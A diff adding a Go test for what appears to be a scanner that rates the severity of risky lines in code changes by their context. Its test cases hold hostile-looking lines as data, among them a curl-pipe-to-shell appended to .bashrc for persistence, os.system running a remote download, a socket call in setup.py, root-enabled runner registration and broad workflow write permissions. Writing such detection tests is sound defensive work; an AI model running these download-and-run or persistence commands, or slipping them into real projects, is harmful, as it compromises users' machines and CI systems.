@@ -1,0 +1,56 @@
+package attention
+
+import (
+	"fmt"
+	"testing"
+)
+
+// The line does what the rule fears, but its context says what it can do
+// with the runner's token and network: each case names the item its line
+// gets, below high where the context takes the danger away and high where
+// it does not.
+func TestSeverityByContext(t *testing.T) {
+	for _, c := range []struct {
+		name, path, text string
+		line             int
+		want             string // "severity rule"
+	}{
+		// A runner image's entrypoint registers with what its caller names;
+		// a script that names its own target is the attack.
+		{"runner image entrypoint", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 2, "medium runner-register"},
+		{"runner image root", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 1, "medium runner-register"},
+		{"script names its repository", "ci/gpu.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
+		{"sudo with the variable", "ci/gpu.sh", "sudo RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
+		{"registration in a workflow", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
+		// An installer writes the profile; what it writes decides.
+		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
+		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
+		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
+		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
+		// A command spelled in a string that nothing runs is a message.
+		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
+		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
+		{"which curl in setup.py", "setup.py", "import shutil\nif shutil.which(\"curl\"):", 2, "medium download"},
+		{"socket library name", "setup.py", "ext = Extension('x', libraries=[\"kstat\", \"socket\"])", 1, ""},
+		{"socket in setup.py", "setup.py", "import socket\ns = socket.create_connection(('x.invalid', 80))", 2, "high build-code-fetch"},
+		// A write permission reaches pull-request code only where the
+		// trigger checks it out by default.
+		{"comment bot write", ".github/workflows/a.yml", "on:\n  issue_comment:\npermissions:\n  contents: write", 4, "medium gha-write-permission"},
+		{"pull_request write", ".github/workflows/a.yml", "on:\n  pull_request:\npermissions:\n  contents: write", 4, "high gha-excessive-permissions"},
+		{"push write", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: write", 3, "high gha-excessive-permissions"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, items := scanDiff(t, c.name, []byte(addedFile(c.path, c.text)))
+			got, all := "", []string{}
+			for _, a := range items {
+				if a.Hunk >= 0 && a.NewLine == c.line {
+					got = a.Severity + " " + a.Rule
+				}
+				all = append(all, fmt.Sprintf("%s %s:%d %s", a.Severity, a.Path, a.NewLine, a.Rule))
+			}
+			if got != c.want {
+				t.Errorf("line %d: got %q, want %q (all: %q)", c.line, got, c.want, all)
+			}
+		})
+	}
+}
